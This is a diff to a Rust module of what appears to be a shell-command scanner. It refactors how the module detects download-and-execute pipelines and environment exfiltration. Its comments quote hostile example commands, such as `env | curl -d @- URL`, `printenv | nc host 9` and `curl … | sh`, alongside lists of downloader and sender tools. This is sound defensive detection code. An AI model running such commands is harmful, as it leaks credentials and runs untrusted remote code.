@@ -1,14 +1,12 @@
 //! What only a sequence of commands shows: fork bombs (a function piping itself into itself
 //! in the background) and download-and-execute (a downloader feeding an interpreter).
 
-use std::cell::Cell;
 use std::sync::OnceLock;
 
 use regex::Regex;
 
 use super::*;
 use crate::lex::{self, Simple};
-use crate::limits::{MAX_DEPTH, NESTED_BUDGET, spend_on_text};
 use crate::wrappers::{basename, look_through};
 
 const DOWNLOADERS: &[&str] = &[
@@ -243,11 +241,6 @@ pub(super) const SENDERS: &[&str] = &[
 /// The whole environment — the tokens it holds with it — piped to a program that sends it
 /// elsewhere (`env | curl -d @- URL`, `printenv | nc host 9`, `cat /proc/self/environ |
 /// nc host 9`, `cat .env | curl -d @- URL`, `history | nc host 9`).
-pub fn environment_sent(cmds: &[lex::Simple]) -> Option<Finding> {
-    environment_sent_in(cmds, 0)
-}
-
-/// [`check_environment_sent`] over `cmds`, and the commands of their substitutions.
 /// The environment given to a sender inside its words: `wget "http://x/$(env | base64)"`.
 fn sent_in_words(c: &lex::Simple) -> Option<Finding> {
     let name = basename(c.argv.first()?);
@@ -261,17 +254,15 @@ fn sent_in_words(c: &lex::Simple) -> Option<Finding> {
     })
 }
 
-fn environment_sent_in(cmds: &[lex::Simple], depth: usize) -> Option<Finding> {
-    if depth > MAX_DEPTH {
-        return None;
-    }
+/// The whole environment sent or filtered for its credentials among `cmds`, one list of
+/// commands (the rules on a line's shape hand over each list a line runs, its
+/// substitutions' too: `rules/line_shapes.rs`).
+pub(super) fn environment_sent(cmds: &[lex::Simple]) -> Option<Finding> {
     // The environment filtered for its credentials (`env | grep -i token`), or sent: what
     // follows each command, read only when some command reads an environment.
     let reading: Vec<bool> = cmds.iter().map(reads_environment).collect();
     if !reading.contains(&true) {
-        return cmds.iter().find_map(|c| {
-            environment_sent_in(&c.substitutions, depth + 1).or_else(|| sent_in_words(c))
-        });
+        return cmds.iter().find_map(sent_in_words);
     }
     let grep_after = super::pipeline::followed_by(cmds, |d| {
         d.argv
@@ -286,9 +277,6 @@ fn environment_sent_in(cmds: &[lex::Simple], depth: usize) -> Option<Finding> {
             .any(|a| a.first().is_some_and(|w| SENDERS.contains(&&*basename(w))))
     });
     cmds.iter().enumerate().find_map(|(i, c)| {
-        if let Some(f) = environment_sent_in(&c.substitutions, depth + 1) {
-            return Some(f);
-        }
         if let Some(f) = sent_in_words(c) {
             return Some(f);
         }
@@ -344,29 +332,10 @@ fn names_credential(pattern: &str) -> bool {
             .any(|w| p.contains(w))
 }
 
-/// `curl … | sh`, `sh -c "$(curl …)"`, `bash <(wget …)`, `eval "$(curl …)"`.
-pub fn check_download_execute(line: &str) -> Option<Finding> {
-    download_execute_at(line, 0, &Cell::new(NESTED_BUDGET))
-}
-
-fn download_execute_at(line: &str, depth: usize, budget: &Cell<usize>) -> Option<Finding> {
-    if depth > MAX_DEPTH || (depth > 0 && !spend_on_text(budget, line)) {
-        return None;
-    }
-    let parsed = lex::parse_shared(line);
-    download_executed_in(&parsed.commands, depth, budget)
-}
-
-/// The download-and-run shapes among `cmds`, and among the commands of their substitutions
-/// (`echo $(curl … | sh)`, fish's `echo (curl … | sh)`), which run as any other.
-fn download_executed_in(
-    cmds: &[lex::Simple],
-    depth: usize,
-    budget: &Cell<usize>,
-) -> Option<Finding> {
-    if depth > MAX_DEPTH {
-        return None;
-    }
+/// `curl … | sh`, `sh -c "$(curl …)"`, `bash <(wget …)`, `eval "$(curl …)"`, among `cmds`,
+/// one list of commands (the rules on a line's shape hand over each list a line runs: its
+/// substitutions', `echo $(curl … | sh)`, and the lines run inside it, `sh -c '…'`).
+pub(super) fn download_executed(cmds: &[lex::Simple]) -> Option<Finding> {
     // What each command is, read once: asked of every pair of a long line's commands it made
     // judging a pipeline of 9,000 downloads take seconds.
     let interpreting: Vec<bool> = cmds.iter().map(interprets).collect();
@@ -380,14 +349,6 @@ fn download_executed_in(
         }
     }
     for (i, c) in cmds.iter().enumerate() {
-        if let Some(f) = download_executed_in(&c.substitutions, depth + 1, budget) {
-            return Some(f);
-        }
-        for inner in &look_through(c).shell_lines {
-            if let Some(f) = download_execute_at(inner, depth + 1, budget) {
-                return Some(f);
-            }
-        }
         let piped = interpreter_after[i] && downloads(c);
         // `curl -o x.sh URL && bash x.sh`, `wget URL/i.sh; chmod +x i.sh; ./i.sh`: a later
         // command, of another pipeline, runs the very file the download wrote.
